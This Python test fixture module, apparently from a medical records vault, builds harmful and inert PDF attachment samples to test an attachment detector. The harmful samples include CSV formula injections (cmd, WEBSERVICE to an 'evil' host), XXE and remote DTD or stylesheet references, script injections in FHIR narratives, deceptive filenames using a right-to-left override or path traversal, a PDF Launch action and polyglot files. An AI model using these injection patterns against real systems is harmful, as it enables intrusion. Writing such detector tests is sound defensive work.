"""Files within PDFs and behind them: data that laboratories and insurers attach, and what acts."""

import io
import zipfile
from functools import partial

from medvault.domain.media import Verdict
from support import pdfs, pictures
from support.corpus.handwritten import CONTENT, attached, document, stream, updated
from support.files import PDF, Sample

_XML = b"text#2fxml"
_FHIR = b'<Observation xmlns="http://hl7.org/fhir"><text><status value="generated"/>%b</text></Observation>'
_DIV = b'<div xmlns="http://www.w3.org/1999/xhtml">%b</div>'
_CDA = b'<?xml version="1.0"?>%b<ClinicalDocument xmlns="urn:hl7-org:v3"><id/></ClinicalDocument>'
_STYLE = b'<?xml-stylesheet type="text/xsl" href="%b"?>'


def archive(*names: str) -> bytes:
    """A ZIP."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as packed:
        for name in names:
            packed.writestr(zipfile.ZipInfo(name), b"data")
    return file.getvalue()


def _locked() -> bytes:
    return pdfs.locked("secret", 6)


def _acting() -> bytes:
    return document(b"/OpenAction<</S/Launch/F(a)>>")


def narrative(content: bytes) -> bytes:
    """A FHIR resource whose narrative holds this."""
    return _FHIR % (_DIV % content)


HARMFUL: dict[str, tuple[bytes, bytes, bytes]] = {
    "a program of windows": (b"MZ" + bytes(200), b"setup.exe", b""),
    "a program named as data": (b"MZ" + bytes(200), b"results.xml", _XML),
    "a program of linux": (b"\x7fELF" + bytes(200), b"results", b""),
    "a program of no name": (b"\xca\xfe\xba\xbe\0\0\0\x41" + bytes(99), b"", b""),
    "text named as a program": (b"just text", b"a.txt.exe", b"text#2fplain"),
    "text named as a program with a dot": (b"just text", b"a.exe.", b""),
    "text whose name reads backwards": (b"just text", "a\u202etxt.scr".encode("utf-16"), b""),
    "text in a hidden stream": (b"just text", b"a.exe:b.txt", b""),
    "text that climbs out of its folder": (b"just text", b"../../a.txt", b""),
    "a script of a batch": (b"@echo off\r\ncalc.exe\r\n", b"results.txt", b""),
    "a script of a shell": (b"#!/bin/sh\nid\n", b"results.txt", b""),
    "javascript": (b"alert(1)", b"results.js", b"text#2fjavascript"),
    "javascript named as data": (b"alert(1)", b"results.json", b"application#2fjavascript"),
    "visual basic": (b"MsgBox 1", b"a.vbs", b""),
    "powershell": (b"Get-Item .", b"a.ps1", b""),
    "a web page": (b"<html><body>1</body></html>", b"a.html", b"text#2fhtml"),
    "a web page named as data": (b"<html><body>1<br></body></html>", b"a.xml", _XML),
    "a web page in xml": (b'<html xmlns="http://www.w3.org/1999/xhtml"/>', b"a.xml", _XML),
    "a web page as text": (b"see <SCRIPT>alert(1)</SCRIPT>", b"a.txt", b""),
    "a web application": (b"<hta:application/>", b"a.hta", b""),
    "a drawing": (b'<svg xmlns="http://www.w3.org/2000/svg"/>', b"a.svg", b"image#2fsvg+xml"),
    "a drawing named as data": (b'<svg xmlns="http://www.w3.org/2000/svg"/>', b"a.xml", _XML),
    "xml with a dtd": (b'<!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>', b"a.xml", _XML),
    "xml with entities": (
        b'<!DOCTYPE a[<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>', b"a.xml", _XML,
    ),
    "xml that is not well formed": (b"<a><b></a>", b"a.xml", _XML),
    "xml with a style from the web": (_CDA % (_STYLE % b"http://evil.example/a.xsl"), b"a.xml", _XML),
    "xml with a style within": (_CDA % (_STYLE % b"#style"), b"a.xml", _XML),
    "xml with two styles": (
        _CDA % b'<?xml-stylesheet href="a.xsl" href="//evil/a.xsl"?>', b"a.xml", _XML,
    ),
    "a style sheet": (
        b'<x:stylesheet version="1.0" xmlns:x="http://www.w3.org/1999/XSL/Transform"/>', b"a.xml", _XML,
    ),
    "xml that an office opens": (_CDA % b'<?mso-application progid="Word.Document"?>', b"a.xml", _XML),
    "an office's document in xml": (
        b'<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>', b"a.xml", _XML,
    ),
    "a form in xml": (b'<x:xdp xmlns:x="http://ns.adobe.com/xdp/"/>', b"a.xml", _XML),
    "xml that includes": (b'<a xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="b"/></a>', b"a.xml", _XML),
    "a narrative with a script": (narrative(b"<script>alert(1)</script>"), b"a.xml", _XML),
    "a narrative with an event": (narrative(b'<p onclick="alert(1)">1</p>'), b"a.xml", _XML),
    "a narrative with a script's address": (narrative(b'<a href=" javascript:1">1</a>'), b"a.xml", _XML),
    "a narrative with a frame": (narrative(b'<iframe src="https://evil.example"/>'), b"a.xml", _XML),
    "a document with macros": (archive("word/vbaProject.bin"), b"a.docm", b""),
    "a workbook": (archive("xl/workbook.xml"), b"a.xlsx", b""),
    "an archive": (archive("a.exe"), b"a.zip", b"application#2fzip"),
    "an archive of another kind": (b"7z\xbc\xaf\x27\x1c" + bytes(40), b"a.7z", b""),
    "an archive behind a picture": (pictures.jpeg() + archive("a.exe"), b"a.jpg", b"image#2fjpeg"),
    "an archive behind xml": (b"<a/>" + archive("a.exe"), b"a.xml", _XML),
    "an old office's document": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500), b"a.doc", b""),
    "rich text": (b"{\\rtf1 {\\object}}", b"a.txt", b""),
    "postscript": (b"%!PS-Adobe-3.0\n(a) run", b"a.txt", b""),
    "a mail with a page": (b"MIME-Version: 1.0\nContent-Type: text/html\n\n<b>", b"a.txt", b""),
    "a shortcut": (b"[InternetShortcut]\nURL=file://evil/a\n", b"a.url", b""),
    "a shortcut of windows": (b"L\0\0\0\x01\x14\x02\0" + bytes(90), b"a.lnk", b""),
    "entries of a registry": (b"Windows Registry Editor Version 5.00\n", b"a.txt", b""),
    "a table that starts a program": (b"a,b\n=cmd|' /C calc'!A0,1\n", b"a.csv", b"text#2fcsv"),
    "a table that fetches": (b'a;"=WEBSERVICE(""http://evil"")"\n', b"a.csv", b"text#2fcsv"),
    "a table that hides its formula": (b"a,b\n1,+SUM(A1)*cmd|'/C calc'!A0\n", b"a.csv", b""),
    "data declared a program": (b"<a/>", b"a.xml", b"application#2fx-msdownload"),
    "data declared a web page": (b"<a/>", b"a.xml", b"text#2fhtml"),
    "a pdf that acts": (_acting(), b"a.pdf", b"application#2fpdf"),
    "a pdf with a pdf that acts": (attached(_acting(), b"a.pdf"), b"a.pdf", b"application#2fpdf"),
    "a pdf in a pdf in a pdf": (attached(attached(document(), b"a.pdf"), b"b.pdf"), b"c.pdf", b""),
    "a locked pdf": (_locked(), b"a.pdf", b"application#2fpdf"),
    "a broken pdf": (b"%PDF-1.7\n" + bytes(50), b"a.pdf", b"application#2fpdf"),
    "an unknown kind of data": (b"text", b"a.gadget", b""),
}  # fmt: skip


def _otherwise() -> dict[str, bytes]:
    program = stream(b"MZ" + bytes(99), b"/Type/EmbeddedFile")
    untyped = stream(b"MZ" + bytes(99))
    spec = b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>"
    plain = document(b"", b"/Contents 4 0 R", stream(CONTENT))
    return {
        "a program associated with it": document(b"/AF[4 0 R]", b"", spec, untyped),
        "a program associated with a page": document(b"", b"/AF[4 0 R]", spec, untyped),
        "a program pinned to a page": document(
            b"", b"/Annots[<</Subtype/FileAttachment/Rect[0 0 9 9]/FS 4 0 R>>]", spec, program
        ),
        "a program that nothing refers to": document(b"", b"", b"null", program),
        "a program for the macintosh": document(
            b"/AF[4 0 R]", b"", b"<</F(a.xml)/EF<</F 6 0 R/Mac 5 0 R>>>>", untyped, stream(b"<a/>")
        ),
        "a program that is related": attached(
            b"<a/>", entries=b"/RF<</F[(a.exe)5 0 R]>>"
        ),
        "a locked pdf as its payload": attached(
            document(), b"a.pdf", entries=b"/AFRelationship/EncryptedPayload/EP<</Type/EncryptedPayload>>"
        ),
        "data in a filter that nobody knows": document(
            b"/AF[4 0 R]", b"", b"<</F(a.xml)/EF<</F 5 0 R>>>>", stream(b"<a/>", b"/Filter/Crypt9")
        ),
        "a program that came with an update": updated(
            plain, {1: b"<</Type/Catalog/Pages 2 0 R/AF[4 0 R]>>", 4: spec, 5: untyped}
        ),
        "a web page before it": b"a <script>alert(1)</script>\n" + plain,
        "something unreadable before it": bytes(range(1, 99)) + plain,
        "an archive behind it": plain + archive("a.exe"),
        "an archive behind it, with a comment": plain + archive("a.class")[:-2] + b"\x04\0%%EO",
        "an archive before its end": plain[:-6] + archive("a")[:-2] + b"\x07\0\n%%EOF\n",
        "a web page behind it": plain + b"<script>alert(1)</script>\n",
        "a web application behind it": plain + b"<HTA:APPLICATION ID=a>\n",
        "a program behind it": plain + b"MZ\x90\0" + bytes(range(1, 200)),
        "a shell's script behind it": plain + b"#!/bin/sh\nid\n",
        "a book behind it": plain + b"words " * 2000,
        "another pdf behind it": plain + plain,
        "another header before its end": plain.replace(b"%%EOF", b"%%EOF\n%PDF-1.7\n%%EOF"),
    }  # fmt: skip


def harmful_one(name: str) -> bytes:
    """A PDF that carries this one."""
    return attached(*HARMFUL[name])


def harmful() -> list[Sample]:
    """PDFs that carry something that acts."""
    found = {name: attached(*within) for name, within in HARMFUL.items()} | _otherwise()
    return [
        Sample(f"pdf with {name}", PDF, partial(bytes, file), Verdict.HAS_ATTACHMENT)
        for name, file in found.items()
    ]


INERT: dict[str, tuple[bytes, bytes, bytes]] = {
    "xml": (b"<results><value>13.5</value></results>", b"results.xml", _XML),
    "xml of an application": (b"<a/>", b"a.xml", b"application#2fxml"),
    "xml of no type": (b"<a/>", b"a.xml", b""),
    "xml of a type with parameters": (b"<a/>", b"a.xml", b"text#2fxml;#20charset=utf-8"),
    "xml in utf-16": ('<?xml version="1.0" encoding="utf-16"?><a>\u00e4</a>'.encode("utf-16"), b"a.xml", _XML),
    "xml in latin-1": (b'<?xml version="1.0" encoding="iso-8859-1"?><a>\xe4</a>', b"a.xml", _XML),
    "xml in windows-1252": (b'<?xml version="1.0" encoding="windows-1252"?><a>\x80</a>', b"a.xml", _XML),
    "an invoice": (
        b'<rsm:CrossIndustryInvoice xmlns:rsm="urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100"/>',
        b"factur-x.xml", _XML,
    ),
    "a clinical document": (_CDA % b"", b"cda.xml", _XML),
    "a clinical document with its sender's style": (_CDA % (_STYLE % b"CDA.xsl"), b"cda.xml", _XML),
    "a resource of fhir": (narrative(b"<p><b>Haemoglobin</b> 13.5</p>"), b"a.xml", b"application#2ffhir+xml"),
    "a narrative with a table": (
        narrative(b'<table class="grid"><tr><td><a href="#x">1</a></td></tr></table>'), b"a.xml", _XML,
    ),
    "json": (b'{"value": 13.5}', b"results.json", b"application#2fjson"),
    "json of fhir": (
        b'{"text": {"div": "<div xmlns=\\"http://www.w3.org/1999/xhtml\\">1</div>"}}', b"a.json", b"application#2ffhir+json",
    ),
    "a table": (b"test;value\nHb;13,5\nCRP;<0,3\nRh;+\nKell;-ve\nX;+ (weak)\nY;=\n", b"results.csv", b"text#2fcsv"),
    "a table of tabs": (b"test\tvalue\nHb\t-13.5\n", b"results.tsv", b"text#2ftab-separated-values"),
    "a note": (b"Please repeat in May.\r\n", b"note.txt", b"text#2fplain"),
    "a note in latin-1": (b"H\xe4moglobin\n", b"note.txt", b"text#2fplain"),
    "a note in utf-16": ("H\u00e4moglobin".encode("utf-16"), b"note.txt", b""),
    "a message of hl7": (b"\x0bMSH|^~\\&|LAB|A\rOBX|1|NM|Hb||13.5\r\x1c\r", b"oru.hl7", b""),
    "a file of ldt": (b"01380008230\r\n014810000204\r\n", b"X01.LDT", b""),
    "an empty file": (b"", b"empty.txt", b""),
    "a jpeg": (pictures.jpeg(), b"photo.jpg", b"image#2fjpeg"),
    "a png": (pictures.png(), b"photo.PNG", b"image#2fpng"),
    "another pdf": (pdfs.scanned(), b"terms.pdf", b"application#2fpdf"),
    "another pdf with data": (attached(b"<a/>"), b"terms.pdf", b""),
    "a name of dots": (b"text", b"Dr. med. Roe, 2.5.2026", b""),
    "a name of a path": (b"<a/>", rb"C:\lab\out\results.xml", _XML),
    "a name in utf-16": (b"<a/>", "Ergebnis-\u00e4 \u2013 1.xml".encode("utf-16"), _XML),
    "a name with a time": (b"text", b"2026-05-02T10:30.txt", b""),
    "no name": (b"<a/>", b"", _XML),
}  # fmt: skip


def inert() -> list[Sample]:
    """PDFs that carry data."""
    found = {name: attached(*within) for name, within in INERT.items()}
    data = stream(b"<a/>", b"/Type/EmbeddedFile/Subtype/text#2fxml/Params<</Size 4>>")
    spec = b"<</Type/Filespec/F(a.xml)/UF(a.xml)/Desc(Data)/AFRelationship/%b/EF<</F 5 0 R/UF 5 0 R>>>>"
    for relation in (b"Source", b"Data", b"Alternative", b"Supplement", b"Unspecified"):
        both = b"/AF[4 0 R]/Names<</EmbeddedFiles<</Names[(a.xml)4 0 R]>>>>"
        found[f"an associated file, {relation.decode()}"] = document(
            both, b"", spec % relation, data
        )
    found["data pinned to a page"] = document(
        b"",
        b"/Annots[<</Subtype/FileAttachment/Rect[0 0 9 9]/FS 4 0 R/Name/Paperclip>>]",
        spec % b"Data",
        data,
    )
    found["a file of a page"] = document(b"", b"/AF[4 0 R]", spec % b"Data", data)
    found["a pdf stored as it is"] = document(
        b"/AF[4 0 R]", b"", b"<</Type/Filespec/F(a.pdf)/EF<</F 5 0 R>>>>", stream(pdfs.scanned())
    )
    return [Sample(f"pdf with {name}", PDF, partial(bytes, file)) for name, file in found.items()]
